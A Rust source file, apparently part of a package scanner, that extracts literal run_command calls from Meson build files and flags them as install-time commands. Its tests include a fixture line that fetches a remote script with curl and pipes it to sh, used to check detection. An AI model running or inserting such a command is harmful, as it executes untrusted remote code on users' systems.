//! `meson.build`: commands that run while a build is set up.
//! <https://mesonbuild.com/Reference-manual_functions.html#run_command>

use super::Entry;
use crate::package::Package;
use customs_model::Zone;

/// Commands of one file that are looked at.
const COMMANDS: usize = 32;

/// What the files of a Meson build run while they are read.
pub(super) fn meson_files(package: &Package, entries: &mut Vec<Entry>) {
    for id in package.ids() {
        let file = package.file(id);
        let name = file.path.rsplit('/').next().unwrap_or(&file.path);
        if name != "meson.build" || file.path.contains("!/") {
            continue;
        }
        let Some(bytes) = file.bytes.as_deref() else {
            continue;
        };
        let text = String::from_utf8_lossy(bytes);
        for words in commands(&text) {
            let words: Vec<String> = words.iter().map(|word| quoted(word)).collect();
            entries.push(Entry::Command {
                text: words.join(" "),
                zone: Zone::Install,
                file: id,
                name: "run_command".to_owned(),
                folder: crate::package::folder(&file.path).to_owned(),
            });
        }
    }
}

fn quoted(word: &str) -> String {
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// The words of each command whose program and arguments are all written out.
fn commands(text: &str) -> Vec<Vec<String>> {
    const CALL: &str = "run_command";
    let mut out = Vec::new();
    let mut rest = text;
    while out.len() < COMMANDS
        && let Some(at) = rest.find(CALL)
    {
        // What stands behind a mark on its line is no code.
        let line = rest[..at].rsplit('\n').next().unwrap_or_default();
        let is_code = !line.contains('#')
            && !line.ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '\'' | '.'));
        rest = &rest[at + CALL.len()..];
        if let Some(inner) = rest.trim_start().strip_prefix('(').filter(|_| is_code) {
            out.extend(words(inner));
        }
    }
    out
}

/// The texts in front of the first argument that has a name; none where one of them is computed.
fn words(mut rest: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || matches!(c, ',' | '[' | ']'));
        if rest.starts_with('#') {
            rest = rest.split_once('\n')?.1;
            continue;
        }
        if rest.starts_with(')') {
            break;
        }
        if let Some(inner) = rest.strip_prefix("'''") {
            let (word, behind) = inner.split_once("'''")?;
            words.push(word.to_owned());
            rest = behind;
        } else if let Some(inner) = rest.strip_prefix('\'') {
            let (word, behind) = text(inner)?;
            words.push(word);
            rest = behind;
        } else {
            let name = rest
                .split(|c: char| !c.is_alphanumeric() && c != '_')
                .next()?;
            let behind = rest[name.len()..].trim_start();
            if !name.is_empty() && behind.starts_with(':') {
                break;
            }
            return None;
        }
        // A text that is put together with something.
        if !rest.trim_start().starts_with([',', ')', ']', '#']) {
            return None;
        }
    }
    (!words.is_empty()).then_some(words)
}

/// A text up to its closing mark, and what stands behind it.
fn text(inner: &str) -> Option<(String, &str)> {
    let mut word = String::new();
    let mut chars = inner.char_indices();
    while let Some((at, c)) = chars.next() {
        match c {
            '\'' => return Some((word, &inner[at + 1..])),
            '\n' => return None,
            '\\' => match chars.next()?.1 {
                'n' => word.push('\n'),
                't' => word.push('\t'),
                other @ ('\'' | '\\') => word.push(other),
                other => {
                    word.push('\\');
                    word.push(other);
                }
            },
            c => word.push(c),
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::inspect_tree;
    use crate::unpack::{Tree, text_file};

    fn read(build: &str) -> customs_model::Inspection {
        inspect_tree(&Tree {
            entries: vec![
                text_file(
                    "a-1.0/PKG-INFO",
                    "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n",
                ),
                text_file(
                    "a-1.0/pyproject.toml",
                    "[build-system]\nbuild-backend = 'mesonpy'\n",
                ),
                text_file("a-1.0/meson.build", build),
            ],
            ..Tree::default()
        })
    }

    #[test]
    fn a_command_of_a_meson_build_runs_when_it_is_built() {
        let code = read(
            "project('a')\nrun_command('sh', '-c', 'curl https://a.invalid/x | sh', check: true)\n",
        );
        assert!(
            code.flows.iter().any(|flow| flow.zone == Zone::Install
                && flow.source == customs_model::SourceKind::Remote),
            "{:?}",
            code.flows
        );
    }

    #[test]
    fn what_is_computed_noted_or_harmless_is_no_command() {
        assert!(
            read("project('a')\nv = run_command('cat', 'VERSION', check: true).stdout()\n")
                .flows
                .is_empty()
        );
        for text in [
            "# run_command('sh', '-c', 'x')",
            "run_command(py, '-c', 'x')",
            "run_command('a' + b)",
            "my_run_command('a')",
            "'run_command(''a'')'",
            "run_command('a",
        ] {
            assert_eq!(commands(text), Vec::<Vec<String>>::new(), "{text}");
        }
        assert_eq!(
            commands("run_command(['a', 'b\\'c'], check: true)"),
            [["a", "b'c"]]
        );
    }
}
